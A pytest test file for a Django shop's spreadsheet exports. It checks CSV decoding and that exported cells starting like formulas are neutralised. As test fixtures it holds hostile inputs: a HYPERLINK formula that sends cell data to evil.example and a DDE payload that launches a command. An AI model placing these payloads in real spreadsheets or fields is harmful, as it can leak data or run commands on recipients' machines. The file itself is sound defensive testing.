"""ddasum.spreadsheets: uploads decoded once, every export written with safe cells."""
import csv
import io
from datetime import date, datetime

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from ddasum.spreadsheets import (
    CSV,
    FORMULA_START,
    CsvEncodingUnknown,
    CsvNotText,
    CsvUnreadable,
    Sheet,
    attachment_response,
    cell_safe,
    cell_unescape,
    csv_decode,
    excel_csv,
    excel_xlsx,
)
from orders.models import Order
from procurement.models import PurchaseRecord, PurchaseSource
from tests.factories import OperatorFactory, ProductFactory, category, image_bytes, pdf_bytes, place_order
from tests.procurement.factories import AgencyFactory, AgencyMembershipFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def formula_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [cell.coordinate for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


# --- decoding -------------------------------------------------------------------------------------


@pytest.mark.parametrize("data", [
    "주문번호,승인번호\n1,2\n".encode(),
    "\ufeff주문번호,승인번호\n1,2\n".encode("utf-8"),
    "주문번호,승인번호\n1,2\n".encode("cp949"),
])
def test_utf8_with_or_without_bom_and_cp949_read_the_same(data):
    assert csv_decode(data) == "주문번호,승인번호\n1,2\n"


@pytest.mark.parametrize("data", [b"\xff\xfe\xfd garbage \x81\x81\xc8", "상품".encode("utf-16")])
def test_text_in_no_known_encoding_is_refused_with_the_message(data):
    with pytest.raises(CsvEncodingUnknown) as exc:
        csv_decode(data)
    assert exc.value.message.startswith("CSV 파일의 글자를 읽을 수 없습니다") and exc.value.code == "encoding"
    assert isinstance(exc.value, CsvUnreadable)


@pytest.mark.parametrize("data", [
    pdf_bytes(), image_bytes("PNG"), b"PK\x03\x04 an xlsx or a zip", "a,b".encode("utf-16"), b"a,b\n1,\x002\n",
])
def test_binary_files_are_not_csv(data):
    with pytest.raises(CsvNotText) as exc:
        csv_decode(data)
    assert exc.value.message == "CSV 파일이 아닙니다. 파일 내용을 확인해 주세요." and exc.value.code == "type"


# --- the safe cell --------------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_starting_like_a_formula_gets_an_apostrophe(start):
    value = f"{start}1+1"
    assert cell_safe(value) == f"'{value}"
    assert cell_unescape(cell_safe(value)) == value


@pytest.mark.parametrize("value", ["홍성 현미", "1+1", "'quoted", "", "010-1234-5678", "a=b"])
def test_other_text_is_left_alone(value):
    assert cell_safe(value) == value and cell_unescape(value) == value


@pytest.mark.parametrize("value", [-5, 0, 12000, -1.5, None, True, date(2026, 1, 2)])
def test_numbers_and_other_values_stay_as_they_are(value):
    assert cell_safe(value) is value


def test_excel_csv_is_utf8_with_a_bom_and_safe_cells():
    data = excel_csv([("이름", "금액"), ("=1+1", -3000), ("@SUM(A1)", 0), ("\tx", "")])
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data) == [["이름", "금액"], ["'=1+1", "-3000"], ["'@SUM(A1)", "0"], ["'\tx", ""]]


def test_excel_xlsx_never_writes_a_formula():
    sheet = Sheet(title="시트", widths=[20, 10], text_columns=frozenset({2}), freeze_panes="A2")
    sheet.heading("이름", "코드")
    for start in FORMULA_START:
        sheet.add(f"{start}SUM(A1:A3)", "00123")
    sheet.add("금액", "", 12345, 9999)
    sheet.add("날짜", "", datetime(2026, 3, 4, 5, 6))
    data = excel_xlsx([sheet], group_digits_from=10_000)
    assert formula_cells(data) == []
    ws = load_workbook(io.BytesIO(data))["시트"]
    assert ws["A2"].value == "=SUM(A1:A3)" and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["A1"].font.b and not ws["A2"].font.b
    assert ws["B2"].value == "00123" and ws["B2"].number_format == "@"
    assert ws["C8"].value == 12345 and ws["C8"].number_format == "#,##0"
    assert ws["D8"].value == 9999 and ws["D8"].number_format == "General"
    assert ws["C9"].number_format == "yyyy-mm-dd" and ws["B9"].value is None
    assert ws.freeze_panes == "A2" and ws.column_dimensions["A"].width == 20


def test_attachment_response():
    response = attachment_response(b"\xef\xbb\xbfa,b\r\n", "x.csv")
    assert response["Content-Type"] == CSV == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


# --- hostile values through the real exports ------------------------------------------------------


@pytest.mark.django_db
def test_partner_shipping_csv_guards_recipient_and_address(client, vendor, owner):
    variant = ProductFactory(vendor=vendor, variants=[{"name": "5kg", "price": 25000, "stock": 10}]).variants.get()
    order = place_order(items=[(variant, 1)], paid=True)
    Order.objects.filter(pk=order.pk).update(recipient_name=HOSTILE, address="+cmd|' /C calc'!A0", address_detail="")
    client.force_login(owner)
    response = client.get(reverse("partner:orders_vendororder_ship_csv_export"))
    assert response.status_code == 200
    header, row = read_csv(response.content)
    assert row[header.index("받는 분")] == "'" + HOSTILE
    assert row[header.index("주소")] == "'+cmd|' /C calc'!A0"
    assert row[0] == order.vendor_orders.get().number


@pytest.mark.django_db
def test_vendor_feed_guards_the_product_name(vendor, owner):
    ProductFactory(vendor=vendor, name="=1+2 홍성 현미", variants=[{"name": "5kg", "price": 25000, "stock": 3}])
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=owner).key}")
    response = client.get("/api/vendor/feed.csv", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    rows = read_csv(response.content)
    assert rows[1][rows[0].index("name")] == "'=1+2 홍성 현미"
    assert rows[1][rows[0].index("price")] == "25000"


@pytest.mark.django_db
def test_sales_report_csv_guards_the_vendor_name(client, vendor):
    vendor.name = "-2+3 " + HOSTILE
    vendor.save(update_fields=["name"])
    variant = ProductFactory(vendor=vendor, variants=[{"name": "1kg", "price": 12000, "stock": 5}]).variants.get()
    place_order(items=[(variant, 1)], paid=True)
    client.force_login(OperatorFactory())
    year = timezone.localdate().year
    response = client.get(reverse("orders:report", args=["vendors"]), {"year": year, "format": "csv"})
    assert response.status_code == 200
    rows = read_csv(response.content)
    assert rows[1][0] == "'" + vendor.name and rows[1][4] == "12000"


@pytest.mark.django_db
def test_procurement_report_xlsx_has_no_formula(client, vendor):
    agency = AgencyFactory()
    vendor.name = HOSTILE
    vendor.save(update_fields=["name"])
    PurchaseRecord.objects.create(agency=agency, vendor=vendor, source=PurchaseSource.OUTSIDE,
                                  enterprise_type=vendor.enterprise_type, purchased_on=date(2025, 3, 4),
                                  category=category("household"), taxable_amount=110_000, total=110_000)
    client.force_login(AgencyMembershipFactory(agency=agency).user)
    response = client.get(reverse("procurement:dashboard_export"), {"year": 2025, "format": "xlsx"})
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    ws = load_workbook(io.BytesIO(response.content))["우선구매 실적"]
    names = [row[1] for row in ws.iter_rows(values_only=True) if row[1] == HOSTILE]
    assert names, "the vendor's name is in the records list, as text"
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value == HOSTILE]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    csv_rows = read_csv(client.get(reverse("procurement:dashboard_export"), {"year": 2025, "format": "csv"}).content)
    assert ["'" + HOSTILE] == [cell for row in csv_rows for cell in row if cell.endswith(HOSTILE)]
